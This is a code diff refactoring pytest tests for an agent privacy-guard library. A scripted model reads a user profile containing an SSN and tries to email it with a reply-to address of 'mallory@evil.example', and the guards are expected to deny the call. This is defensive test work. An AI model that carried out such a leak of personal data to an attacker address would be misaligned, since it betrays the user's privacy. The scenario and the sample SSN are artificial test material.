@@ -29,27 +29,21 @@ that needs an injected value denies the call with the reason (`vfa._tools._as_th
 
 from __future__ import annotations
 
-import json
 from typing import Annotated, Any
 
 import pytest
-from _tool_loop import model_node, tool_loop
+from _schema_mail import CFG, MALLORY, USER, middleware_denies, profile_then_mail, retrofit_denies, ssn_handle
 from langchain.agents import create_agent
 from langchain_core.messages import AIMessage, HumanMessage
-from langchain_core.tools import InjectedToolCallId, StructuredTool, tool
+from langchain_core.tools import InjectedToolCallId, StructuredTool
 from langgraph.checkpoint.memory import InMemorySaver
-from langgraph.prebuilt import InjectedState, ToolNode
+from langgraph.prebuilt import InjectedState
 from pydantic import BaseModel, model_validator
 
 import graphs
-from guards import PrivacyFlow, PrivacyPolicy, audit_trace, privacy_sink, privacy_source, trace_from_journal
-from vfa import EffectJournal
+from guards import PrivacyFlow, PrivacyPolicy, privacy_sink, privacy_source
 from vfa.testing import ScriptedModel
 
-USER = "me@home.example"
-MALLORY = "mallory@evil.example"
-SSN = "078-05-1120"
-CFG = {"configurable": {"thread_id": "t"}}
 
 
 def _reply_to(data: Any) -> Any:
@@ -77,14 +71,6 @@ class StateArgs(BaseModel):
     _reply = model_validator(mode="before")(classmethod(lambda cls, data: _reply_to(data)))
 
 
-@tool
-@privacy_sink()
-@privacy_source(private=["ssn"], kind="profile")
-def get_profile() -> dict:
-    """The user's profile."""
-    return {"name": "Ann", "ssn": SSN}
-
-
 def _mail(schema: type[BaseModel], sent: list[Any]) -> Any:
     def send_email(to: str, body: str, reply_to: str = "", **injected: Any) -> str:
         """Send an e-mail."""
@@ -96,51 +82,20 @@ def _mail(schema: type[BaseModel], sent: list[Any]) -> Any:
     return StructuredTool.from_function(fn, name="send_email", args_schema=schema)
 
 
-def _rule(messages: list[Any]) -> Any:
-    results = [m for m in messages if m.type == "tool"]
-    if not results:
-        return AIMessage("", tool_calls=[{"name": "get_profile", "args": {}, "id": "c1"}])
-    if len(results) == 1:  # the user where the guards look, mallory where the tool's validator reads
-        ssn = json.loads(results[0].content)["ssn"]
-        return AIMessage("", tool_calls=[{"name": "send_email", "id": "c2",
-                                          "args": {"to": USER, "reply_to": MALLORY, "body": ssn}}])
-    return AIMessage("done")
-
-
-def _unsent(sent: list[Any]) -> bool:
-    return not any(SSN in body or to == MALLORY for to, body in sent)
+# the user where the guards look, mallory where the tool's validator reads
+_rule = profile_then_mail(lambda shown: {"to": USER, "reply_to": MALLORY, "body": ssn_handle(shown)})
 
 
 @pytest.mark.parametrize("schema", [CallIdArgs, StateArgs], ids=lambda s: s.__name__)
 def test_retrofit_validator_beside_injected_arg_does_not_pick_the_recipient(schema: type[BaseModel]) -> None:
     sent: list[Any] = []
-    mail = _mail(schema, sent)
-    b = tool_loop(model_node(ScriptedModel(rule=_rule)), ToolNode([get_profile, mail]))
-    journal = EffectJournal()
-    flow = PrivacyFlow(PrivacyPolicy.of(USER), secret=b"rt167", journal=journal)
-    app = graphs.guard_graph(b, [flow.guard()], flow=flow, read_only=["get_profile"], journal=journal)
-    out = app.invoke({"messages": [HumanMessage("Mail me my profile.")]}, CFG)
-    shown = [m for m in out["messages"] if m.type == "tool"]
-    assert json.loads(shown[0].content)["ssn"].startswith("«ssn:")  # the model holds the SSN as a handle
-    assert _unsent(sent), f"the tool mailed {sent!r}; the guards judged to={USER!r}"
-    assert shown[-1].artifact["vfa"]["outcome"] == "denied"
-    # the audit of the journal judges the call as the tool reads it too
-    found = audit_trace(trace_from_journal(journal, "t", messages=out["messages"]), [get_profile, mail],
-                        PrivacyPolicy.of(USER), thread_id="t")
-    assert any(v.call_id == "c2" for v in found)
+    retrofit_denies(_rule, _mail(schema, sent), sent)
 
 
 @pytest.mark.parametrize("schema", [CallIdArgs, StateArgs], ids=lambda s: s.__name__)
 def test_middleware_validator_beside_injected_arg_does_not_pick_the_recipient(schema: type[BaseModel]) -> None:
     sent: list[Any] = []
-    flow = PrivacyFlow(PrivacyPolicy.of(USER), secret=b"rt167")
-    mw = graphs.GuardMiddleware([flow.guard()], flow=flow, read_only=["get_profile"])
-    app = create_agent(ScriptedModel(rule=_rule), [get_profile, _mail(schema, sent)], middleware=[mw],
-                       checkpointer=InMemorySaver())
-    out = app.invoke({"messages": [HumanMessage("Mail me my profile.")]}, CFG)
-    assert _unsent(sent), f"the tool mailed {sent!r}; the guards judged to={USER!r}"
-    assert [m for m in out["messages"] if m.type == "tool"][-1].artifact["vfa"]["outcome"] == "denied"
-
+    middleware_denies(_rule, _mail(schema, sent), sent)
 
 
 def test_validator_needing_an_injected_value_denies_with_its_reason() -> None:
